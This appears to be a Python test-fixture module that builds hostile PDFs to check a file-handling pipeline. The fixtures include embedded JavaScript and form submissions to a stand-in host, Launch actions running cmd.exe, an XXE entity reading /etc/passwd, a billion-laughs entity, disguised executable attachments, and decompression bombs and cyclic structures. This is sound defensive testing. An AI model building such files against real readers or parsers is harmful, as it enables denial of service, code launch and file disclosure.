"""PDFs that act, loop, flood, hide, or lie."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Mapping
from typing import Literal

import pikepdf

from tests.support.hostile.case import ANY, GOOD, REFUSED, Hostile, Table
from tests.support.hostile.packages import zipped
from tests.support.hostile.pictures import archive, packed

MEGABYTE = 1_000_000
ELSEWHERE = b"http://203.0.113.9/seen"
HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
WORDS = b"BT /F1 24 Tf 72 700 Td (Made-up words on a page) Tj ET"
Objects = Mapping[int, bytes]


def stream(body: bytes, about: bytes = b"") -> bytes:
    """A stream object."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (about, len(body), body)


BASE: Objects = {
    1: b"<</Type/Catalog/Pages 2 0 R>>",
    2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
    4: stream(WORDS),
    5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
}


def pdf(more: Objects | None = None, trailer: bytes = b"", header: bytes = HEADER) -> bytes:
    """A small sound file with objects added, or put in the place of its own."""
    out = io.BytesIO()
    out.write(header)
    places = {}
    for number, body in sorted({**BASE, **(more or {})}.items()):
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = out.tell()
    size = max(places) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        at = places.get(number)
        out.write(b"%010d 00000 n \n" % at if at is not None else b"0000000000 65535 f \n")
    out.write(b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, table))
    return out.getvalue()


def catalog(entries: bytes, more: Objects | None = None) -> bytes:
    """A file whose first object says more."""
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R" + entries + b">>", **(more or {})})


def page(entries: bytes, more: Objects | None = None) -> bytes:
    """A file whose page says more."""
    return pdf({3: BASE[3].removesuffix(b">>") + entries + b">>", **(more or {})})


def noted(entries: bytes, more: Objects | None = None) -> bytes:
    """A file with one annotation."""
    return page(b"/Annots[6 0 R]", {6: b"<</Type/Annot/Rect[0 0 600 780]" + entries + b">>", **(more or {})})


def drawn(content: bytes, resources: bytes = b"", more: Objects | None = None, about: bytes = b"") -> bytes:
    """A file whose page is painted this way."""
    head = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<<" + resources + b">>>>"
    return pdf({3: head, 4: stream(content, about), **(more or {})})


def image(entries: bytes, body: bytes) -> bytes:
    """A file with one picture on its page."""
    about = b"/Type/XObject/Subtype/Image" + entries
    return drawn(b"600 0 0 700 0 0 cm /I Do", b"/XObject<</I 6 0 R>>", {6: stream(body, about)})


def attached(name: bytes, body: bytes, count: int = 1) -> bytes:
    """A file with files attached to it."""
    names = b" ".join(b"(%04d) 6 0 R" % number for number in range(count))
    spec = b"<</Type/Filespec/F(" + name + b")/UF(" + name + b")/EF<</F 7 0 R>>>>"
    return catalog(
        b"/Names<</EmbeddedFiles<</Names[" + names + b"]>>>>", {6: spec, 7: stream(body, b"/Type/EmbeddedFile")}
    )


JS = b"<</S/JavaScript/JS(app.launchURL('" + ELSEWHERE + b"',true);this.exportDataObject({cName:'a',nLaunch:2}))>>"
URI = b"<</S/URI/URI(" + ELSEWHERE + b")>>"

ACTS: Mapping[str, Callable[[], bytes]] = {
    "a script at its opening": lambda: catalog(b"/OpenAction" + JS),
    "a named script": lambda: catalog(b"/Names<</JavaScript<</Names[(a) " + JS + b"]>>>>"),
    "a script at its closing": lambda: catalog(b"/AA<</WC" + JS + b"/WS" + JS + b"/WP" + JS + b">>"),
    "a script on its page": lambda: page(b"/AA<</O" + JS + b"/C" + JS + b">>"),
    "a script behind a link": lambda: noted(b"/Subtype/Link/A" + JS),
    "a script under the pointer": lambda: noted(b"/Subtype/Widget/FT/Tx/T(a)/AA<</E" + JS + b"/Fo" + JS + b">>"),
    "a script that counts": lambda: catalog(
        b"/AcroForm<</Fields[6 0 R]/CO[6 0 R]>>", {6: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</C" + JS + b">>>>"}
    ),
    "a script behind a bookmark": lambda: catalog(
        b"/Outlines 6 0 R", {6: b"<</First 7 0 R/Last 7 0 R/Count 1>>", 7: b"<</Title(a)/Parent 6 0 R/A" + JS + b">>"}
    ),
    "a script after an action": lambda: catalog(b"/OpenAction<</S/Named/N/NextPage/Next" + JS + b">>"),
    "a script in a stream": lambda: catalog(b"/OpenAction<</S/JavaScript/JS 6 0 R>>", {6: stream(b"app.alert(1)")}),
    "a script in a layer": lambda: catalog(
        b"/OCProperties<</OCGs[6 0 R]/D<</ON[6 0 R]>>>>", {6: b"<</Type/OCG/Name(a)/A" + JS + b">>"}
    ),
    "a program to start": lambda: catalog(b"/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
    "a program behind a link": lambda: noted(b"/Subtype/Link/A<</S/Launch/F(\\\\\\\\203.0.113.9\\\\a.exe)>>"),
    "an address at its opening": lambda: catalog(b"/OpenAction" + URI),
    "an address behind a link": lambda: noted(b"/Subtype/Link/A" + URI),
    "an address in a script's words": lambda: noted(b"/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>"),
    "a form that is sent": lambda: catalog(b"/OpenAction<</S/SubmitForm/F(" + ELSEWHERE + b")>>"),
    "data that is taken in": lambda: catalog(b"/OpenAction<</S/ImportData/F(" + ELSEWHERE + b")>>"),
    "another file to go to": lambda: catalog(b"/OpenAction<</S/GoToR/F(\\\\\\\\203.0.113.9\\\\a.pdf)/D[0/Fit]>>"),
    "a file inside to go to": lambda: catalog(b"/OpenAction<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>"),
    "a film": lambda: noted(b"/Subtype/Movie/Movie<</F(" + ELSEWHERE + b")>>/A true"),
    "a sound": lambda: noted(b"/Subtype/Sound/Sound 7 0 R", {7: stream(b"\0" * 99, b"/R 8000")}),
    "a screen": lambda: noted(b"/Subtype/Screen/A<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D(" + ELSEWHERE + b")>>>>>>"),
    "a flash film": lambda: noted(b"/Subtype/RichMedia/RichMediaContent<</Assets<</Names[]>>>>"),
    "a solid": lambda: noted(b"/Subtype/3D/3DD 7 0 R", {7: stream(b"U3D\0", b"/Type/3D/Subtype/U3D/OnInstantiate 8 0 R"), 8: stream(b"1")}),
    "a picture from elsewhere": lambda: image(b"/Width 9/Height 9/F<</FS/URL/F(" + ELSEWHERE + b")>>", b""),
    "a page from elsewhere": lambda: drawn(
        b"/X Do", b"/XObject<</X 6 0 R>>", {6: stream(b"", b"/Subtype/Form/BBox[0 0 9 9]/Ref<</F(" + ELSEWHERE + b")/Page 0>>")}
    ),
    "a font from elsewhere": lambda: pdf({5: b"<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor<</Type/FontDescriptor/FontName/A/FontFile2 6 0 R>>>>",
                                          6: stream(b"", b"/F<</FS/URL/F(" + ELSEWHERE + b")>>")}),
    "a description that reads a file": lambda: catalog(
        b"/Metadata 6 0 R",
        {6: stream(b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&b;</x:xmpmeta>',
                   b"/Type/Metadata/Subtype/XML")},
    ),
    "a description that laughs": lambda: catalog(
        b"/Metadata 6 0 R",
        {6: stream(b"<!DOCTYPE a [<!ENTITY b 'x'><!ENTITY c '&b;&b;&b;'>]><a>&c;</a>", b"/Type/Metadata/Subtype/XML")},
    ),
    "a cover for a collection": lambda: catalog(b"/Collection<</View/D>>"),
    "a page of the web in a note": lambda: noted(b"/Subtype/FreeText/Contents(<script>alert\\(1\\)</script>)/RC(<body><p>x</p></body>)"),
    "a form of two kinds": lambda: catalog(
        b"/AcroForm<</Fields[6 0 R]/XFA[(template) 7 0 R]>>",
        {6: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]>>", 7: stream(b"<template/>")},
    ),
    "a text attached": lambda: attached(b"notes.txt", b"made up"),
    "a page of the web attached": lambda: attached(b"a.html", b"<script>alert(1)</script>"),
    "a file pinned to its page": lambda: noted(
        b"/Subtype/FileAttachment/FS 7 0 R", {7: b"<</F(a.exe)/EF<</F 8 0 R>>>>", 8: stream(b"MZ\x90\0")}
    ),
    "a lock for its owner only": lambda: locked("", "owner"),
}  # fmt: skip

PROGRAMS: Mapping[str, Callable[[], bytes]] = {
    "a program attached": lambda: attached(b"a.exe", b"MZ\x90\0" + b"\0" * 99),
    "a program under another name": lambda: attached(b"letter.txt", b"MZ\x90\0" + b"\0" * 99),
    "a script attached": lambda: attached(b"letter.pdf.JS", b"WScript.Echo(1)"),
    "a shortcut attached": lambda: attached(b"letter.lnk", b"L\0\0\0"),
    "macros attached": lambda: attached(b"letter.docm", b"PK\x03\x04"),
    "a linux program attached": lambda: attached(b"letter", b"\x7fELF" + b"\0" * 99),
}


def locked(user: str, owner: str, strength: Literal[3, 6] = 6) -> bytes:
    """A file locked with passwords."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(
            out,
            encryption=pikepdf.Encryption(user=user, owner=owner, R=strength, aes=strength > 3, metadata=strength > 3),
        )
    return out.getvalue()


def filters(times: int, size: int) -> bytes:
    """Zeros packed again and again."""
    body = packed(size)
    for _ in range(times - 1):
        body = zlib.compress(body, 9)
    return drawn(body, b"", None, b"/Filter[" + b"/FlateDecode" * times + b"]")


def forms(depth: int, width: int) -> bytes:
    """Forms that each paint the next one ``width`` times."""
    more = {
        number: stream(
            b"/X Do " * width,
            b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</XObject<</X %d 0 R>>>>" % (number + 1),
        )
        for number in range(6, 6 + depth)
    }
    more[6 + depth] = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]")
    return drawn(b"/X Do", b"/XObject<</X 6 0 R>>", more)


def tree(depth: int) -> bytes:
    """Pages that hang far down."""
    more = {2: b"<</Type/Pages/Kids[6 0 R]/Count 1>>", 3: BASE[3].replace(b"2 0 R", b"%d 0 R" % (5 + depth), 1)}
    for number in range(6, 6 + depth):
        kid = number + 1 if number < 5 + depth else 3
        parent = number - 1 if number > 6 else 2
        more[number] = b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (parent, kid)
    return pdf(more)


def pages(count: int, said: int | None = None) -> bytes:
    """The same page again and again."""
    return pdf({2: b"<</Type/Pages/Kids[" + b"3 0 R " * count + b"]/Count %d>>" % (said or count)})


def in_streams(loop: bool, count: int) -> bytes:
    """Objects inside an object stream that counts too many, or continues in itself."""
    body = b"9 0 10 3 <<>> <<>>"
    extends = b"/Extends 6 0 R" if loop else b""
    return pdf({6: stream(body, b"/Type/ObjStm/N %d/First 9" % count + extends)})


def table_stream(entries: bytes) -> bytes:
    """A file whose table of places is a stream."""
    plain = pdf()
    start = plain.rindex(b"xref\n0")
    body = HEADER + plain[len(HEADER) : start]
    at = len(body)
    return body + b"9 0 obj\n" + stream(zlib.compress(bytes(4 * 100)), b"/Type/XRef/Filter/FlateDecode/Root 1 0 R/W[1 2 1]" + entries) + (
        b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
    )  # fmt: skip


JPX = b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 \0\0\0\0jp2 \0\0\0\x2djp2h\0\0\0\x16ihdr" + struct.pack(
    "!IIHBBBB", 2**31 - 1, 2**31 - 1, 3, 7, 7, 0, 0
) + b"\0\0\0\x0fcolr\1\0\0\0\0\0\x10\0\0\0\0jp2c\xff\x4f\xff\x51" + struct.pack(
    "!HHIIIIIIIIH", 47, 0, 2**31 - 1, 2**31 - 1, 0, 0, 2**31 - 1, 2**31 - 1, 0, 0, 3
) + b"\7\1\1" * 3  # fmt: skip
JBIG2 = b"\0\0\0\0\x30\0\1\0\0\0\x13" + struct.pack("!IIIIBH", 2**31 - 1, 2**31 - 1, 0, 0, 0, 0)

FLOODS: Mapping[str, Callable[[], bytes]] = {
    "300 MB in its page": lambda: filters(1, 300 * MEGABYTE),
    "2 GB packed two times": lambda: filters(2, 2000 * MEGABYTE),
    "300 MB packed five times": lambda: filters(5, 300 * MEGABYTE),
    "40 filters": lambda: drawn(b"00", b"", None, b"/Filter[" + b"/ASCIIHexDecode" * 40 + b"]"),
    "a run that is long": lambda: drawn(b"\x81\0" * 3_000_000, b"", None, b"/Filter/RunLengthDecode"),
    "columns without end": lambda: drawn(
        packed(MEGABYTE), b"", None, b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2147483647>>"
    ),
    "a picture of 100000 x 100000": lambda: image(
        b"/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode", packed(30 * MEGABYTE)
    ),
    "a picture of 30000 x 30000 dots": lambda: image(
        b"/Width 30000/Height 30000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/FlateDecode", packed(112 * MEGABYTE)
    ),
    "a jpx picture without end": lambda: image(b"/Width 2147483647/Height 2147483647/Filter/JPXDecode", JPX),
    "a jbig2 picture without end": lambda: image(
        b"/Width 100000/Height 100000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode", JBIG2
    ),
    "a fax without end": lambda: image(
        b"/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 60000>>",
        b"\xff" * MEGABYTE,
    ),
    "a picture in its page without end": lambda: drawn(b"BI /W 100000 /H 100000 /BPC 8 /CS /RGB /F /Fl ID " + packed(MEGABYTE) + b" EI"),
    "forms that paint each other": lambda: drawn(
        b"/X Do", b"/XObject<</X 6 0 R>>",
        {6: stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")},
    ),
    "forms 12 deep and 10 wide": lambda: forms(12, 10),
    "a pattern that paints itself": lambda: drawn(
        b"/Pattern cs /P scn 0 0 600 700 re f", b"/Pattern<</P 6 0 R>>",
        {6: stream(b"/Pattern cs /P scn 0 0 9 9 re f",
                   b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9/Resources<</Pattern<</P 6 0 R>>>>")},
    ),
    "a pattern of tiny steps": lambda: drawn(
        b"/Pattern cs /P scn 0 0 600 700 re f", b"/Pattern<</P 6 0 R>>",
        {6: stream(b"0 0 1 1 re f", b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .0001/YStep .0001/Resources<<>>")},
    ),
    "a letter that paints itself": lambda: pdf({5: b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 77/LastChar 77"
        b"/Widths[9]/Encoding<</Differences[77/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F1 5 0 R>>>>>>",
        6: stream(b"9 0 d0 BT /F1 9 Tf (MMMMMMMM) Tj ET")}),
    "a million levels of state": lambda: drawn(b"q " * MEGABYTE + WORDS),
    "a million lists in a list": lambda: catalog(b"/A " + b"[" * MEGABYTE + b"]" * MEGABYTE),
    "a million tables in a table": lambda: catalog(b"/A " + b"<</A" * 300_000 + b" 1" + b">>" * 300_000),
    "a million notes": lambda: page(b"/Annots[" + b"6 0 R " * MEGABYTE + b"]", {6: b"<</Type/Annot/Subtype/Square/Rect[0 0 9 9]>>"}),
    "half a million strokes": lambda: drawn(b"0 0 m 600 700 l 3 9 l s\n" * 500_000),
    "dashes too fine to see": lambda: drawn(b"[.00001 .00001] 0 d 9 w 0 0 m 600 700 l S"),
    "shades of a million samples": lambda: drawn(
        b"/S sh", b"/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1 0 1]/Function 6 0 R>>>>",
        {6: stream(packed(3 * MEGABYTE), b"/FunctionType 0/Domain[0 1 0 1]/Range[0 1 0 1 0 1]/Size[1000 1000]/BitsPerSample 8/Filter/FlateDecode")},
    ),
    "a sum that is long": lambda: drawn(
        b"/S sh", b"/Shading<</S<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 1 0 1]/Function 6 0 R>>>>",
        {6: stream(b"{" + b"dup mul " * 100_000 + b"pop}", b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1]")},
    ),
    "masks in masks": lambda: drawn(
        b"/G gs 0 0 600 700 re f", b"/ExtGState<</G 6 0 R>>",
        {6: b"<</SMask<</S/Luminosity/G 7 0 R>>>>", 7: stream(b"/G gs 0 0 600 700 re f",
         b"/Type/XObject/Subtype/Form/Group<</S/Transparency>>/BBox[0 0 600 700]/Resources<</ExtGState<</G 6 0 R>>>>")},
    ),
    "a page of a billion points": lambda: pdf({3: BASE[3].replace(b"612 792", b"1000000000 1000000000")}),
    "a page as long as a street": lambda: pdf({3: BASE[3].replace(b"612 792", b"9 9000000")}),
    "a unit of a million": lambda: page(b"/UserUnit 1000000"),
    "a turn of 45 degrees": lambda: page(b"/Rotate 45"),
    "a tree 5000 deep": lambda: tree(5000),
    "a tree that is its own branch": lambda: pdf({2: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"}),
    "a tree in a circle": lambda: pdf({2: b"<</Type/Pages/Kids[6 0 R]/Count 1>>", 6: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>"}),
    "a parent that is its child": lambda: pdf({3: BASE[3].replace(b"2 0 R", b"3 0 R", 1)}),
    "an object that is itself": lambda: pdf({4: b"4 0 R"}),
    "a length that is itself": lambda: pdf({4: b"<</Length 4 0 R>>stream\nq Q\nendstream"}),
    "a length of four gigabytes": lambda: pdf({4: b"<</Length 4294967295>>stream\nq Q\nendstream"}),
    "a length below zero": lambda: pdf({4: b"<</Length -1>>stream\nq Q\nendstream"}),
    "names in a circle": lambda: catalog(b"/Names<</EmbeddedFiles 6 0 R>>", {6: b"<</Kids[6 0 R 6 0 R]>>"}),
    "bookmarks in a circle": lambda: catalog(b"/Outlines 6 0 R", {6: b"<</First 7 0 R/Last 7 0 R>>", 7: b"<</Title(a)/Next 7 0 R/First 7 0 R>>"}),
    "actions in a circle": lambda: catalog(b"/OpenAction 6 0 R", {6: b"<</S/JavaScript/JS(1)/Next 6 0 R>>"}),
    "fields in a circle": lambda: catalog(b"/AcroForm<</Fields[6 0 R]>>", {6: b"<</T(a)/FT/Tx/Kids[6 0 R]/Parent 6 0 R>>"}),
    "an object stream in a circle": lambda: in_streams(loop=True, count=2),
    "an object stream of a billion": lambda: in_streams(loop=False, count=10**9),
    "a table of two billion": lambda: table_stream(b"/Size 2147483647"),
    "a table of wide columns": lambda: table_stream(b"/Size 10/W[2147483647 2147483647 1]"),
    "a table that comes before itself": lambda: pdf(trailer=b"/Prev 20"),
    "a table in a circle": lambda: pdf(trailer=b"/Prev %d" % (len(pdf()) + 12 - 3)),
    "no table": lambda: pdf().replace(b"xref", b"none"),
    "a table that points nowhere": lambda: pdf().replace(b"startxref\n", b"startxref\n9999"),
    "half of it": lambda: pdf()[: len(pdf()) // 2],
    "an attachment of 300 MB": lambda: attached(b"a.txt", packed(300 * MEGABYTE)).replace(b"/Type/EmbeddedFile", b"/Filter/FlateDecode"),
}  # fmt: skip

BROKEN: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "nothing but its sign": (lambda: b"%PDF-1.7\n", "damaged"),
    "a page of the web inside": (lambda: b"%PDF-1.7\n<html><script>alert(1)</script></html>", "damaged"),
    "noise inside": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 100, "damaged"),
    "no pages": (lambda: pdf({2: b"<</Type/Pages/Kids[]/Count 0>>"}), "damaged"),
    "less than no pages": (lambda: pdf({2: b"<</Type/Pages/Kids[3 0 R]/Count -1>>"}), ANY),
    "a page that is not there": (lambda: pdf({2: b"<</Type/Pages/Kids[99 0 R]/Count 1>>"}), REFUSED),
    "a page without an area": (lambda: pdf({3: BASE[3].replace(b"612 792", b"0 0")}), ANY),
    "2001 pages": (lambda: pages(2001), "pages"),
    "a million pages": (lambda: pages(MEGABYTE), "pages"),
    "a million pages, it says": (lambda: pages(1, MEGABYTE), ANY),
    "a lock": (lambda: locked("made-up", "owner"), "locked"),
    "an older lock": (lambda: locked("made-up", "owner", 3), "locked"),
    "201 files attached": (lambda: attached(b"a.txt", b"x", 201), "inside"),
    "a zip behind it": (lambda: pdf() + archive(), "two"),
    "an empty zip behind it": (lambda: pdf() + b"PK\x05\x06" + b"\0" * 18, "two"),
    "a word file behind it": (lambda: pdf() + zipped({"word/document.xml": b"<a/>"}), "two"),
    "a form of the newer kind": (
        lambda: catalog(b"/NeedsRendering true/AcroForm<</Fields[]/XFA 6 0 R>>", {6: stream(b"<xdp:xdp xmlns:xdp='x'/>")}),
        "form",
    ),
    "the name of a picture": (pdf, "misnamed"),
}  # fmt: skip


SLOW = frozenset(
    {"2 GB packed two times", "a pattern of tiny steps", "a pattern that paints itself", "half a million strokes"}
)


def table() -> Table:
    """All of them."""
    for must, files in ((GOOD, ACTS), ("program", PROGRAMS), (ANY, FLOODS)):
        for name, build in files.items():
            yield Hostile(f"pdf with {name}", "proof.pdf", build, must, slow=name in SLOW)
    for name, (build, must) in BROKEN.items():
        yield Hostile(f"pdf with {name}", "proof.png" if must == "misnamed" else "proof.pdf", build, must)
